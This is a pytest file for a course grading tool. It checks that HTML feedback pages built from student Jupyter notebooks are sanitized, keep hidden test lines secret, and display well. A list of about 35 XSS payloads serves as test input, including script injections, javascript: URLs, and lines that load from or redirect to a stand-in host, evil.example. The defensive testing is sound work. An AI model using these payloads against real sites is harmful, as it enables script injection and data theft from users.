import base64
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from playwright.sync_api import Page as BrowserPage

from course_lib.grading.gradebook import feedback_cells as shown_cells
from course_lib.grading.gradebook import sanitized
from course_lib.grading.gradebook.feedback import HandIn, feedback_html
from course_lib.grading.scores import ExerciseScore
from tests.support.cells import graded_cell
from tests.support.paths import ROOT
from tests.support.tiny_course import Words

pytestmark = pytest.mark.slow

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
HIDDEN = """# A hidden test runs here.
### BEGIN HIDDEN TESTS
from course_lib.checks import call, passed
secret_number = -7
assert double(secret_number) < 0, "a negative number stays negative"
call(double, [1.0, secret_number]).equals([2.0, "<b>"])
passed("double", points=2)
### END HIDDEN TESTS"""
SECRET = [line for line in HIDDEN.splitlines() if "secret" in line]
WIDE = "<svg xmlns='http://www.w3.org/2000/svg' width='3000' height='20'></svg>"
SCORES = [ExerciseScore("double", 1, 3, "AssertionError: a negative number stays negative")]
VOID = {"meta", "br", "hr", "img", "col", "wbr"}
OURS = {"meta": 4, "style": 1, "title": 1, "html": 1, "head": 1, "body": 1, "main": 1, "h1": 1}
MATHML = {"math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "msub", "msup", "msubsup", "mfrac", "mtable", "mtr"}
MATHML |= {"mtd", "mstyle", "mover", "munder"}


class Page(HTMLParser):
    """The tags of a page, with their attributes; each must be closed."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def count(self, tag: str) -> int:
        return sum(found == tag for found, _ in self.tags)


def is_harmless(tag: str, name: str, value: str) -> bool:
    """Tell whether an attribute can neither run nor load anything."""
    if name == "href":
        return tag == "a" and re.match(r"https?://|mailto:|#exercise-", value) is not None
    if name == "src":
        return tag == "img" and re.fullmatch(r"data:image/(png|jpeg|gif|svg\+xml);base64,[\w+/=]+", value) is not None
    if tag in MATHML:
        return name == "alttext" or (re.fullmatch(r"[\w.+ -]*", value) is not None and not name.startswith("on"))
    if name == "style":
        return re.fullmatch(r"(background-)?color: rgb\(\d+,\d+,\d+\)", value) is not None
    names = {"class", "id", "alt", "title", "colspan", "rowspan", "start", "lang", "role", "scope", "aria-labelledby"}
    return name in names or tag == "meta"


def checked(page: str) -> Page:
    """Parse a page; whatever is in it, it must be harmless."""
    parsed = Page(page)
    for tag in (
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "link",
        "base",
        "svg",
        "video",
    ):
        assert parsed.count(tag) == 0
    assert {tag: parsed.count(tag) for tag in OURS} == OURS
    for tag, attributes in parsed.tags:
        assert all(is_harmless(tag, name, value) for name, value in attributes.items()), (tag, attributes)
    policy = next(attributes["content"] for tag, attributes in parsed.tags if "http-equiv" in attributes)
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    return parsed


def marked(source: str, grade_id: str, *outputs: NotebookNode) -> NotebookNode:
    return graded_cell(source, grade_id, outputs=outputs)


def page_of(*cells: NotebookNode, scores: list[ExerciseScore] = SCORES, **others: object) -> str:
    return feedback_html(new_notebook(cells=list(cells)), scores, "ada", "01_doubling", **others)  # type: ignore[arg-type]


def shown(*outputs: NotebookNode) -> str:
    return page_of(new_code_cell("x", outputs=list(outputs)))


def data(kind: str, content: object) -> NotebookNode:
    return new_output("display_data", data={kind: content, "text/plain": "instead"})


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src=http://evil.example/track.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<a href=javascript:alert(1)>x</a><a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href=data:text/html,x>x</a><a href=//evil.example>x</a>",
    "<a href=https://example.org onclick=alert(1) style=position:fixed>fine</a>",
    "<div style='background:url(javascript:alert(1))' class=verdict id=exercise-double>10/10</div>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    "<body onload=alert(1)>",
    "</pre></div></body></html><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]( javascript&colon;alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/track.png)",
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
    "{{ 7 * 7 }}{% raw %}",
    "\x1b[31m<script>alert(1)</script>\x1b[0m\x1b[38;5;200mx\x1b[0m\x1b]8;;javascript:alert(1)\x07x",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_can_run(payload: str) -> None:
    outputs = [
        new_output("stream", name="stdout", text=payload),
        new_output("error", ename=payload, evalue=payload, traceback=[payload]),
        *[
            new_output("display_data", data={kind: payload})
            for kind in (
                "text/html",
                "text/markdown",
                "text/latex",
                "text/plain",
                "image/svg+xml",
                "image/png",
                "application/javascript",
                "application/json",
                "application/vnd.jupyter.widget-view+json",
            )
        ],
    ]
    cells = [
        new_code_cell(payload, outputs=outputs),
        new_markdown_cell(payload, attachments={payload: {"image/png": payload}}),
        new_raw_cell(payload, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
        marked(HIDDEN, "test_double_hidden", *outputs),
        marked(payload, "double"),
    ]
    scores = [ExerciseScore("double", 1, 3, payload)]
    comments = {"double": payload, payload: payload}
    page = feedback_html(new_notebook(cells=cells), scores, payload, payload, comments, payload)
    assert checked(page).count("math") == 0 or "$" in payload
    assert "{{ 7 * 7 }}" in page if "7 * 7" in payload else "49" not in Words(page).text
    assert page.encode()


def test_verdicts_points_and_messages_stand_at_the_top_with_links() -> None:
    scores = [
        ExerciseScore("double", 3, 3, ""),
        ExerciseScore("halve", 0.5, 2, "halve(1)\n  got: 2"),
        ExerciseScore("square", 0, 1, "NotImplementedError"),
    ]
    cells = [marked("...", name) for name in ("double", "halve", "square", "test_halve")]
    page = page_of(*cells, scores=scores)
    words = " ".join(Words(page).text.split())
    assert "ada · Score: 3.5 / 6" in words
    assert "double 3 / 3 ✓ right" in words
    assert "halve 0.5 / 2 partly right halve(1) got: 2" in words
    assert "square 0 / 1 ✗ not yet NotImplementedError" in words
    tags = checked(page).tags
    links = [attributes["href"] for tag, attributes in tags if tag == "a"]
    assert links == ["#exercise-double", "#exercise-halve", "#exercise-square"]
    assert [f"#{attributes['id']}" for tag, attributes in tags if tag == "section"] == links


def test_comments_stand_with_their_exercise() -> None:
    comments = {"double": "Nicely done.", "test_double_hidden": "Look at the sign.", "square": "About nothing here."}
    words = Words(page_of(comments=comments)).text
    expected = ["About nothing here.", "double", "stays negative", "Nicely done.", "Look at the sign."]
    assert sorted(expected, key=words.rindex) == expected


def test_the_answer_and_its_figures_stand_with_the_exercise() -> None:
    described = new_output("display_data", {"image/png": PNG}, metadata={"image/png": {"alt": 'Loss "falls" <b>'}})
    cells = [
        new_markdown_cell("# Doubling\n\n## 1. Numbers"),
        marked("def double(x): return 3 * x", "double", new_output("stream", name="stdout", text="printed")),
        marked("test()", "test_double", new_output("stream", name="stdout", text="of the test")),
        new_code_cell("plot(double)", outputs=[data("image/png", PNG)], metadata={"tags": ["demo"]}),
        new_code_cell("plot(loss)", outputs=[described, new_output("stream", name="stdout", text="said")]),
        new_markdown_cell("## 2. More"),
        new_code_cell("plot(more)", outputs=[data("image/png", PNG)], execution_count=5),
    ]
    page = page_of(*cells)
    above, _, below = page.partition('<details class="notebook">')
    assert [attributes["alt"] for tag, attributes in checked(page).tags if tag == "img"] == [
        "Figure of the exercise double",
        'Loss "falls" <b>',
        "Figure of the notebook",
    ]
    assert "return 3 * x" in Words(above).text
    assert "printed" in Words(above).text
    assert "not run for the grade" in Words(above).text
    assert "of the test" not in above
    assert above.count("<img") == 2
    assert below.count("<img") == 1
    assert "printed" not in below
    assert below.count('<a href="#exercise-double">with the exercise</a>') == 3
    assert {"of the test", "said", "plot(more)"} <= {*Words(below).text.split("\n")}


def test_headings_are_in_order() -> None:
    text = "# One\n\n## Two\n\n##### Five"
    output = data("text/html", "<h1>Mine</h1>")
    page = page_of(new_markdown_cell(text), marked("x", "double", output), comments={"double": "# Well", "all": "# So"})
    levels = re.findall(r"<h(\d)[^>]*>([^<]*)", page)
    assert levels == [
        *[("1", "01_doubling"), ("2", "So"), ("2", "Your answers"), ("3", "double"), ("4", "Well"), ("4", "Mine")],
        *[("2", "The whole notebook, as it was graded"), ("3", "One"), ("4", "Two"), ("6", "Five")],
    ]


def test_comments_are_markdown_with_formulas() -> None:
    page = page_of(comments={"double": "**Nearly:** $x_1$ is\n\n- one\n\n$$\\frac{1}{2}$$", "all": "*so*"})
    assert "<strong>Nearly:</strong>" in page
    assert "<msub><mi>x</mi><mn>1</mn></msub>" in page
    assert "<mfrac>" in page
    assert "<li>one</li>" in page
    assert "<em>so</em>" in page
    checked(page)


def test_mathml_comes_from_our_converter_alone() -> None:
    for text in (
        "<math><mi>x</mi></math>",
        "<math><annotation-xml encoding='text/html'><b>x</b></annotation-xml></math>",
        "<a href='https://example.org/$x$'>link</a>",
    ):
        for convert in (sanitized.html, sanitized.markdown):
            assert "<m" not in convert(text)
    assert "<msup>" in sanitized.markdown("$x^2$")


def test_a_placeholder_of_a_formula_cannot_be_forged(monkeypatch: pytest.MonkeyPatch) -> None:
    """Even who knew its name could not bring a formula into an attribute."""
    name = "0" * 32
    monkeypatch.setattr("secrets.token_hex", lambda _: name)
    text = f"$x$ <a href='https://example.org/formula-{name}-0.'>link</a>"
    assert re.findall(r"<a[^>]*>", sanitized.markdown(text)) == ["<a>"]


def test_lateness_is_told_where_it_costs_points() -> None:
    assert "late:" not in Words(page_of()).text
    assert "Score: 0.5 / 3 · late: −0.5" in Words(page_of(hand_in=HandIn(late=0.5))).text


def test_a_phone_shows_the_page_without_sideways_scrolling(page: BrowserPage) -> None:
    long = "x" * 300
    comments = {"double": f"$${' + '.join(['x'] * 200)}$$ {long} `{long}` [{long}](https://example.org)", "all": long}
    table = f"<table><tr>{'<td>wide wide</td>' * 30}</tr></table>"
    outputs = [data("text/html", table), data("text/markdown", f"| {long} |\n|--|"), data("image/svg+xml", WIDE)]
    cells = [marked(f"{long} = 1", "double", *outputs), new_markdown_cell(f"# {long}\n\n{table}\n\n```\n{long}\n```")]
    scores = [ExerciseScore("double", 1, 3, f"{long}\n{long}"), ExerciseScore("b" * 60, 3, 3, "")]
    html = page_of(*cells, new_code_cell(long, outputs=outputs), scores=scores, comments=comments, status=long)
    page.set_viewport_size({"width": 360, "height": 740})
    page.set_content(html)
    for opened in (False, True):
        page.evaluate("open => document.querySelectorAll('details').forEach(details => details.open = open)", opened)
        assert page.evaluate("document.documentElement.scrollWidth") == 360
        assert (
            page.evaluate(
                "Math.max(...[...document.querySelectorAll('img')].map(i => i.getBoundingClientRect().right))"
            )
            <= 360
        )


def test_a_page_is_short_and_the_notebook_one_click_away(page: BrowserPage) -> None:
    cells = [marked("x = 1", "double"), *[new_markdown_cell("word " * 500) for _ in range(40)]]
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.set_content(page_of(*cells))
    height = page.evaluate("document.documentElement.scrollHeight")
    assert height < 1000
    page.get_by_text("The whole notebook").click()
    assert page.evaluate("document.documentElement.scrollHeight") > 5 * height
    assert page.get_by_role("main").count() == page.get_by_role("heading", level=1).count() == 1
    assert page.get_by_role("region", name="double").count() == 1
    assert page.get_by_role("row").count() == 2
    assert requests == []


def test_a_submission_that_could_not_be_graded() -> None:
    page = feedback_html(None, SCORES, "ada", "01_doubling", status="error: expected a notebook, found an empty file")
    assert "expected a notebook, found an empty file" in Words(page).text
    nothing = feedback_html(None, [ExerciseScore("double_it", 0, 3, "")], "ada", "01_doubling", status="error: empty")
    assert "double_it\n0 / 3\nnot graded" in Words(nothing).text
    assert checked(page).count("a") == 0


def test_no_line_of_a_hidden_test_is_shown() -> None:
    colored = [
        f"\x1b[32m----> {number}\x1b[0m \x1b[1m{line[:5]}\x1b[0m{line[5:]}" for number, line in enumerate(SECRET)
    ]
    quoting = [
        new_output("stream", name="stderr", text=f"cell:3: UserWarning: odd\n  {SECRET[1]}\n"),
        new_output("error", ename="AssertionError", evalue="a negative number stays negative", traceback=colored),
        new_output("execute_result", data={"text/plain": "\n".join(SECRET)}),
        data("text/html", f"<pre>{SECRET[0]}</pre>"),
        data("text/markdown", "\n".join(SECRET)),
    ]
    scores = [ExerciseScore("double", 1, 3, f"Odd: {SECRET[0]}\nmore")]
    own = new_code_cell("double(1)", outputs=quoting)
    page = page_of(
        own, marked("double(2)", "test_double", *quoting), marked(HIDDEN, "test_double_hidden", *quoting), scores=scores
    )
    words = Words(page).text
    assert "secret" not in page
    assert not [line for line in SECRET if line in words]
    assert "UserWarning: odd" in words
    assert "AssertionError: a negative number stays negative" in words
    assert "# A hidden test runs here." in words
    assert "more" in words


def test_a_hidden_test_without_visible_words_or_end() -> None:
    for source in (HIDDEN.partition("\n")[2], HIDDEN.partition("### END")[0]):
        page = page_of(marked(source, "test_double_hidden"))
        assert "secret" not in page
        assert "# A hidden test" in Words(page).text


def test_the_message_of_a_check_is_shown_in_a_hidden_test() -> None:
    lines = ["\x1b[1;31m✗ double(-7)\x1b[0m", "  got: 7"]
    error = new_output("error", ename="CheckFailed", evalue="double(-7)\n  got: 7", traceback=lines)
    words = Words(page_of(marked(HIDDEN, "test_double_hidden", error))).text
    assert "✗ double(-7)\n  got: 7" in words


def test_folders_of_the_machine_are_left_out() -> None:
    lines = [
        "File \x1b[32m/home/grader/.venv/lib/python3.11/site-packages/numpy/_core/numeric.py:12\x1b[0m, in ones",
        'File "/home/grader/course/course_lib/grading/trusted.py", line 3',
        "File ~/course/x.py:4",
        "ValueError: 1 / 2 and a/b and https://example.org/a/b",
    ]
    words = Words(shown(new_output("error", ename="ValueError", evalue="", traceback=lines))).text
    assert "grader" not in words
    assert "File numpy/_core/numeric.py:12, in ones" in words
    assert 'File "trusted.py", line 3' in words
    assert "File x.py:4" in words
    assert "ValueError: 1 / 2 and a/b and https://example.org/a/b" in words


def test_ordinary_outputs_look_as_they_should() -> None:
    table = "<style scoped>td {color: red}</style><table class='dataframe'><tr><td colspan='2'>12</td></tr></table>"
    page = shown(
        new_output("stream", name="stdout", text="plain\n 1/3\r 2/3\r 3/3 done\n"),
        new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m"),
        data("text/html", table),
        data("text/markdown", "**bold** [site](https://example.org) $x_1$"),
        data("image/png", f"{PNG[:4]}\n{PNG[4:]}"),
        data("application/javascript", "alert(1)"),
    )
    parsed = checked(page)
    assert "plain\n 3/3 done" in Words(page).text
    assert '<span class="ansi-red-fg">red</span>' in page
    assert ("td", {"colspan": "2"}) in parsed.tags
    assert "<strong>bold</strong>" in page
    assert ("a", {"href": "https://example.org"}) in parsed.tags
    assert "<msub><mi>x</mi><mn>1</mn></msub>" in page
    assert f"data:image/png;base64,{PNG}" in page
    assert "color: red}" not in page
    assert Words(page).text.count("instead") == 1


def test_a_cell_that_was_left_out_says_so() -> None:
    ran, left_out = new_code_cell("1", execution_count=1), new_code_cell("2", metadata={"tags": ["demo"]})
    page = feedback_html(new_notebook(cells=[ran, new_markdown_cell("text")]), [], "ada", "01_doubling")
    assert "Not run for a grade." not in Words(page).text
    page = feedback_html(new_notebook(cells=[ran, left_out]), [], "ada", "01_doubling")
    assert Words(page).text.count("Not run for a grade.") == 1


def test_svg_is_a_picture_of_its_own() -> None:
    drawing = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><circle r='1'/></svg>"
    (source,) = [
        attributes["src"] for tag, attributes in checked(shown(data("image/svg+xml", drawing))).tags if tag == "img"
    ]
    assert base64.b64decode(source.partition(",")[2]).decode() == drawing


def test_hints_and_pasted_pictures_of_a_text_cell() -> None:
    text = "## A title\n\n<details><summary>Hint 1</summary>\n\nUse `sum`.\n\n</details>\n\n![mine](attachment:a.png)"
    page = page_of(new_markdown_cell(text, attachments={"a.png": {"image/png": PNG}}))
    parsed = checked(page)
    assert parsed.count("details") == parsed.count("summary") == 2  # one of them is the whole notebook
    assert parsed.count("code") == 1
    assert page.count(f"data:image/png;base64,{PNG}") == 1
    assert "<h4>A title</h4>" in page


def test_long_outputs_are_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    long = new_output("stream", name="stdout", text="y" * 1_000_000)
    page = shown(long)
    assert len(page) < 50_000
    assert "… 980000 more characters" in page
    monkeypatch.setattr(shown_cells, "MAX_OUTPUT_CHARS", 50_000)
    page = shown(*[long] * 100)
    assert len(page) < 100_000
    assert page.count("More output is not shown.") == 1


def test_much_markup_is_shown_as_it_is_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shown_cells, "MAX_MARKUP_CHARS", 20)
    page = shown(data("text/html", "<b>first</b>"), data("text/html", "<b>second</b>"))
    assert "<b>first</b>" in page
    assert "&lt;b&gt;second&lt;/b&gt;" in page
    checked(shown(new_output("display_data", data={"text/html": "<b>" * 10_000})))


def test_a_short_text_does_not_become_a_long_page() -> None:
    """An open tag is reopened in each paragraph, even if there are a thousand of them."""
    signs = "abcdefghijklmnopqrstuvwxyz0123456789"
    text = "<p>" + "".join(f"<b {a}{b}>" for a in signs for b in signs) + "<p>x" * 3000
    assert len(text) < sanitized.MAX_PIECE_CHARS
    for convert in (sanitized.html, sanitized.markdown):
        assert len(convert(text)) < 1_000_000
    assert sanitized.html('<b class="a">bold</b> <a href="https://example.org">link</a>').count("</") == 2


def luminance(color: str) -> float:
    """WCAG 2's relative luminance of a color such as ``#fa0`` or ``#ffaa00``."""
    digits = color[1:] if len(color) == 7 else "".join(digit * 2 for digit in color[1:])
    channels = [int(digits[place : place + 2], 16) / 255 for place in (0, 2, 4)]
    light = [value / 12.92 if value <= 0.04045 else ((value + 0.055) / 1.055) ** 2.4 for value in channels]
    return 0.2126 * light[0] + 0.7152 * light[1] + 0.0722 * light[2]


def test_every_color_of_a_text_can_be_read() -> None:
    """WCAG 2 asks for a contrast of 4.5; code stands on the darkest background but for the verdicts."""
    style = page_of().partition("</style>")[0]
    colors = re.findall(r"(?<![\w-])color: (#[0-9a-f]{3,6})", style)
    backgrounds = re.findall(r"background: (#[0-9a-f]{3,6})", style)
    assert len(colors) > 10
    assert len(backgrounds) > 4
    pairs = [(color, "#f6f6f6") for color in colors] + [("#222", background) for background in backgrounds]
    for color, background in pairs:
        assert (luminance(background) + 0.05) / (luminance(color) + 0.05) >= 4.5, (color, background)


def test_an_exercise_may_name_its_cells_and_have_a_note() -> None:
    cells = [graded_cell("print('mine')", "total"), graded_cell("assert total", "test_total", 1)]
    note = "in the learner's process: it uses magic"
    score = ExerciseScore("test_total", 1, 1, "", note=note, cells=["total", "test_total"])
    page = feedback_html(new_notebook(cells=cells), [score], "Ada", "ps1/problem1", {"total": "Well done."})
    words = Words(page).text
    assert note in words
    assert words.count("mine") == 2  # with the exercise, and in the whole notebook
    assert words.index("Well done.") > words.index("test_total")
    checked(page)


@pytest.mark.parametrize("released", sorted(ROOT.glob("notebooks/*/*.ipynb")), ids=lambda path: path.stem)
def test_the_cells_of_a_unit_are_converted_once_for_a_class(released: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    notebook = nbformat.read(released, as_version=4)
    first = feedback_html(notebook, [], "ada", released.stem)
    monkeypatch.setattr(sanitized, "_HIGHLIGHT", None)
    assert feedback_html(notebook, [], "ada", released.stem) == first
